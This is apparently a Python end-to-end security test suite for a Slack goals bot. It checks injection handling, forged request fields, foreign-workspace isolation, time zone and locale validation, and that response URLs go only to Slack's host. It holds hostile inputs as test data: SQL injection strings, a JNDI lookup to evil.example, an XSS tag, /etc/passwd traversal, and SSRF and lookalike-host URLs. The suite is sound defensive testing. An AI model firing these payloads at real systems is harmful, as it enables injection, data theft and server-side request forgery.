"""Requests that Slack has signed, or a thief of the secret: forged parts, foreign ids, code for other machines."""

import asyncio
import contextlib
import json
from collections.abc import Sequence
from typing import Any

import pytest

from bot.slack import ACTIONS, FORMS
from bot.slack.profiles import read_user
from bot.slack.response_urls import is_response_url
from bot.standin.people import Person
from tests.e2e.acts import clicks, goals_of, settled, tells
from tests.e2e.conftest import Office
from tests.e2e.doors import JSON, Door

SQL = "'; DROP TABLE goal; --"
CODE = (
    *(
        SQL,
        '" OR 1=1 --',
        "1) UNION SELECT token FROM installation --",
        "\\'; DELETE FROM member; --",
        "$1",
        ":team",
        "?",
    ),
    *(
        "{0}",
        "{title}",
        "{{}}",
        "%s",
        "%(x)s",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
    ),
)
UNKEEPABLE = ("nul\x00byte", "half \ud83d of one", "\udfff\ud800", "\x00")
USED_UP = {"used_url", "exchanged_trigger_id", "expired_trigger_id", "invalid_trigger_id", "not_found"}
FORGED_VALUES = ("", "-1", "99999999999999999999", "٣", SQL, "\x00", "x" * 3_000, "0", "1e9", "１", "1;2", "null", "[]")


def at_first(count: int, values: Sequence[str], of_the_gate: int | None = None) -> list[Any]:
    """So many of them by default; the gate takes the rest too, up to `of_the_gate`; behind that are long forms."""
    more = [pytest.param(one, marks=pytest.mark.thorough) for one in values[count:of_the_gate]]
    rest = () if of_the_gate is None else values[of_the_gate:]
    return [*values[:count], *more, *(pytest.param(one, marks=pytest.mark.long) for one in rest)]


@pytest.mark.parametrize("typed", at_first(1, CODE))
async def test_code_is_only_ever_text(office: Office, ada: Person, typed: str) -> None:
    await ada.types("/goals", f"add Write {typed}")
    await ada.types("/wins", f"add Wrote {typed}")
    await tells(ada, f"I want to read {typed}")
    for command in ("/goals", "/level", "/nudges", "/mentor", "/cairn", "/wins"):
        saw = await ada.types(command, typed)
        assert "Something went wrong" not in saw
    [goal] = await goals_of(office, ada)
    assert goal.title == f"Write {typed.rstrip(' ;-')}" or goal.title == f"Write {typed}"


@pytest.mark.parametrize("typed", at_first(2, UNKEEPABLE))
async def test_what_no_database_keeps_costs_nothing_of_the_rest(office: Office, ada: Person, typed: str) -> None:
    send = office.standin.send_command
    sent = typed if office.app.settings.socket_mode else typed.encode(errors="ignore").decode()  # no form holds a half
    for command, text in (("/goals", f"add Write it {sent}"), ("/wins", f"add Wrote it {sent}"), ("/level", sent)):
        answer = await send(ada, command, text)
        assert answer.ok
        assert "Something went wrong" not in str(answer.content())
    stamp = ada.workspace.timestamps.next(office.clock())
    event = {
        "type": "message",
        "channel_type": "im",
        "user": ada.id,
        "channel": ada.dm_channel.id,
        "ts": stamp,
        "client_msg_id": f"c{typed}",
        "text": f"I want to read it {typed}",
    }
    assert (await office.standin.send_event(event, fields={"event_id": f"Ev{typed}"})).ok
    await office.forward(minutes=1)
    await settled(office, ada)
    [goal] = await goals_of(office, ada)
    assert goal.title.startswith("Write it")
    rows = office.app.database.glance(office.standin.workspace.id)
    assert len(await rows.wins.of(ada.id)) == 1


IDS = ["U0'; DROP TABLE member; --", 'U"0', "U0\x00", "U" * 5_000, "../U0", "<@U0>", "{0}", "💥"]


@pytest.mark.parametrize("id_", at_first(3, IDS))
async def test_ids_are_only_ever_values(office: Office, ada: Person, id_: str) -> None:
    for part in ("user_id", "channel_id", "trigger_id", "enterprise_id", "api_app_id"):
        answer = await office.standin.send_command(ada, "/goals", "add Write it", fields={part: id_})
        assert answer.status is None or answer.status < 500
    assert "Something went wrong" not in await ada.types("/goals")
    await settled(office, ada)
    office.standin.refusals.clear()  # Slack knows none of these people either


def forgive(office: Office) -> None:
    """What Slack refuses where one trigger, URL or view is used for many requests; nothing else was refused."""
    assert {refusal.error for refusal in office.standin.refusals} <= USED_UP, office.standin.refusals
    office.standin.refusals.clear()


@pytest.mark.parametrize("value", at_first(0, FORGED_VALUES, of_the_gate=7))
async def test_a_forged_value_changes_nothing_and_says_nothing_of_others(
    office: Office, ada: Person, mira: Person, value: str
) -> None:
    await mira.types("/goals", "add A secret of Mira's")
    await ada.types("/goals", "add Write the storage RFC")
    await clicks(office, ada, "All goals", in_="dm")
    await clicks(office, ada, "Done", in_="dm")
    assert ada.last_sent is not None
    real = ada.last_sent.payload
    for number, action in enumerate(ACTIONS):
        fields = {
            "actions.0.action_id": action,
            "actions.0.value": value,
            "actions.0.action_ts": f"{number}.1",
        }
        answer = await office.standin.send_interaction(dict(real), fields=fields)
        assert answer.ok, action
        await office.app.desk.settle()
    await office.forward(seconds=1)  # whatever was planned by that has come
    ada.looks()
    forgive(office)
    assert "secret of Mira" not in ada.screen()
    assert [goal.title for goal in await goals_of(office, mira)] == ["A secret of Mira's"]


METADATA = ("[1]", "{", "null", json.dumps({"goal": "1"}), json.dumps({"goal": {"a": 1}, "origin": SQL}), "x" * 3_000)


@pytest.mark.parametrize("metadata", at_first(1, METADATA))
async def test_forged_metadata_and_view_ids_change_nothing(
    office: Office, ada: Person, mira: Person, metadata: str
) -> None:
    await mira.types("/goals", "add A secret of Mira's")
    await ada.types("/goals", "add Write the storage RFC")
    await clicks(office, ada, "Edit")
    await ada.submits()
    await settled(office, ada)
    assert ada.last_sent is not None
    real = dict(ada.last_sent.payload)
    for number, form in enumerate(FORMS):
        fields = {
            "view.private_metadata": metadata,
            "view.callback_id": form,
            "view.id": f"V{number}'; --",
            "view.hash": f"{number}.x",
        }
        assert (await office.standin.send_interaction(real, fields=fields)).ok, form
        await office.app.desk.settle()
    await office.forward(seconds=1)  # whatever was planned by that has come
    ada.looks()
    forgive(office)
    assert "secret of Mira" not in ada.screen()
    assert [goal.title for goal in await goals_of(office, mira)] == ["A secret of Mira's"]


FOREIGN = (
    {"team_id": "T0FOREIGN"},
    {"team_id": "T0FOREIGN", "enterprise_id": "E0FOREIGN", "is_enterprise_install": True},
    {"team_id": ""},
    {"team_id": SQL},
    {"team_id": "T0\x00"},
)


async def test_a_foreign_workspace_gets_nothing(office: Office, ada: Person) -> None:
    await ada.types("/goals", "add Write the storage RFC")
    office.standin.ack_seconds = 1.0  # over a socket nothing comes back
    for fields in FOREIGN[:1] if office.app.settings.socket_mode else FOREIGN:  # no answer is waited for there
        answer = await office.standin.send_command(ada, "/goals", "", fields=fields)
        assert not answer.ok
        assert "storage RFC" not in str(answer.content())
        event = {
            "type": "message",
            "channel_type": "im",
            "user": ada.id,
            "channel": ada.dm_channel.id,
            "ts": "1.1",
            "text": "I want to write two of them",
        }
        said, alone = len(ada.dm), {**fields, "authorizations": [{"team_id": fields["team_id"]}]}
        assert not (await office.standin.send_event(event, fields=alone)).ok
        answer = await office.standin.send_event(event, fields=fields)
        assert answer.ok is bool(fields["team_id"])  # it names two workspaces, as those of shared channels do
        await office.app.catch_up()
        assert len(ada.dm) == said
        assert len(await goals_of(office, ada)) == 1


OWN: tuple[dict[str, Any], ...] = (
    {"bot_id": "B0CAIRN"},
    {"subtype": "bot_message"},
    {"subtype": "bot_message", "username": "cairn"},
    {"subtype": "message_changed", "message": {"text": "I want to write two of them"}},
    {"subtype": "message_deleted"},
    {"subtype": "channel_join"},
    {"subtype": ["file_share"]},
    {"channel_type": "channel"},
    {"channel_type": "mpim"},
    {"user": None},
    {"user": ["U0"]},
    {"text": {"type": "mrkdwn"}},
    {"ts": 5},
    {"hidden": True, "subtype": "reminder_add"},
)


async def test_what_no_person_said_to_the_bot_has_no_effect(office: Office, ada: Person) -> None:
    for number, event in enumerate(OWN):
        said = {
            "type": "message",
            "channel_type": "im",
            "user": ada.id,
            "channel": ada.dm_channel.id,
            "ts": f"{number}.1",
            "text": "I want to write two of them",
        }
        assert (await office.standin.send_event({**said, **event})).ok
        await office.forward(minutes=1)
        assert await goals_of(office, ada) == []


async def test_the_bots_own_user_is_no_member(office: Office, ada: Person) -> None:
    [install] = office.slack_app.installs.values()
    said = {
        "type": "message",
        "channel_type": "im",
        "user": install.bot_user_id,
        "channel": ada.dm_channel.id,
        "ts": "1.1",
        "text": "I want to write two of them",
        "bot_id": install.bot_id,
    }
    assert (await office.standin.send_event(said)).ok
    await office.forward(minutes=1)
    rows = office.app.database.glance(office.standin.workspace.id)
    assert await rows.members.get(install.bot_user_id) is None


ZONES = (
    *("../../etc/passwd", "/etc/passwd", "Europe/Berlin\n", "Europe/../Europe/Berlin", "x" * 10_000, "1/" * 5_000),
    *("Europe\\Berlin", "Europe/Berlin\x00", "", " ", "{0}", ".", "..", "/", "Europe", "europe//berlin", SQL),
)


@pytest.mark.parametrize("zone", ZONES)
def test_a_zone_that_is_none_is_left_out(zone: str) -> None:
    assert "timezone" not in read_user({"tz": zone})


@pytest.mark.parametrize(
    "locale", ["{0}", "../x", "x" * 10_000, "en\n", "de_DE.UTF-8@euro", "", "%s", SQL, "en-US\x00"]
)
def test_a_locale_that_is_none_is_left_out(locale: str) -> None:
    assert "locale" not in read_user({"locale": locale})
    assert read_user({"locale": "en-US", "tz": "America/Argentina/Buenos_Aires"}) == {
        "locale": "en-US",
        "timezone": "America/Argentina/Buenos_Aires",
    }


SLACKS = "hooks.slack.com"
ELSEWHERE = (
    *("http://hooks.slack.com/actions/T/1/x", "https://hooks.slack.com.evil.example/a", "https://evil.example/a"),
    *(
        "https://hooks.slack.com@evil.example/a",
        "https://evil.example@hooks.slack.com/a",
        "https://hooks.slack.com:443/a",
    ),
    *("https://hooks.slack.com:8443/a", "https://hooks.slack.com\\@evil.example/a", "https://hooks.slack.com/a b"),
    *("https://hooks.slack.com/a\r\nHost: evil", "https://hooks.slack.com/a#@evil.example", "//hooks.slack.com/a"),
    *(
        "https://hooks.slаck.com/a",
        "https://hooks。slack。com/a",
        "https://hooks%2eslack%2ecom/a",
        "https:hooks.slack.com/a",
    ),
    *(
        "HTTPS://hooks.slack.com/a",
        "https://HOOKS.slack.com/a",
        "https://hooks.slack.com",
        "",
        "x",
        "file:///etc/passwd",
    ),
    *(
        "https://169.254.169.254/latest",
        "http://127.0.0.1:5432/",
        "https://hooks.slack.com/" + "a" * 3_000,
        "https://[::1]/a",
    ),
    *("\thttps://hooks.slack.com/a", "https://hooks.slack.com\t.evil.example/a", "https://hooks.slack.com/\\evil"),
)


@pytest.mark.parametrize("url", ELSEWHERE)
def test_an_answer_goes_to_slacks_host_alone(url: str) -> None:
    assert not is_response_url(url, SLACKS)


def test_slacks_own_response_urls_are_answered_at() -> None:
    for path in ("actions/T0/123/AbC", "commands/T0/123/AbC", "app/T0/123/AbC", "services/T0/B0/x"):
        assert is_response_url(f"https://{SLACKS}/{path}", SLACKS)
    assert is_response_url("http://127.0.0.1:8900/actions/T0/1/x", "127.0.0.1:8900")
    assert not is_response_url("http://127.0.0.1:8901/actions/T0/1/x", "127.0.0.1:8900")


async def test_a_forged_response_url_is_never_called(office: Office, ada: Person) -> None:
    calls: list[str] = []

    async def elsewhere(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        calls.append((await reader.readline()).decode())
        writer.close()

    async with await asyncio.start_server(elsewhere, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        await ada.types("/goals", "add Write the storage RFC")
        await clicks(office, ada, "All goals", in_="dm")
        assert ada.last_sent is not None
        host = office.app.desk.response_host
        for number, url in enumerate(
            (f"http://127.0.0.1:{port}/a", f"http://{host}@127.0.0.1:{port}/a", f"http://localhost:{port}/{host}/a")
        ):
            fields = {"response_url": url, "actions.0.action_ts": f"{number}.1"}
            assert (await office.standin.send_interaction(dict(ada.last_sent.payload), fields=fields)).ok
            await office.app.desk.settle()
    assert calls == []


async def test_a_redirect_from_slacks_host_is_not_followed(door: Door) -> None:
    calls: list[str] = []

    async def redirecting(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        calls.append((await reader.readline()).decode().split()[1])
        port = writer.get_extra_info("sockname")[1]
        writer.write(
            f"HTTP/1.1 307 x\r\nLocation: http://127.0.0.1:{port}/inside\r\nContent-Length: 0\r\n\r\n".encode()
        )
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(redirecting, "127.0.0.1", 0) as server:
        host = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        desk = door.office.app.desk
        desk.response_host = host
        assert await desk.answer_at(f"http://{host}/actions/T0/1/x", {"text": "Done"}) == "failed"
    assert calls == ["/actions/T0/1/x"]


async def test_an_endless_refusal_is_not_read_to_its_end(door: Door) -> None:
    async def endless(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()
        writer.write(b"HTTP/1.1 500 x\r\n\r\n")
        with contextlib.suppress(ConnectionError):
            while True:
                writer.write(b"x" * 65_536)
                await writer.drain()

    async with await asyncio.start_server(endless, "127.0.0.1", 0) as server:
        desk = door.office.app.desk
        desk.response_host = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        assert await desk.answer_at(f"http://{desk.response_host}/actions/T0/1/x", {"text": "Done"}) == "failed"


async def test_a_challenge_of_halves_is_no_failure(door: Door) -> None:
    status, _ = await door.posts(b'{"type": "url_verification", "challenge": "\\ud800"}', JSON)
    assert status == 200
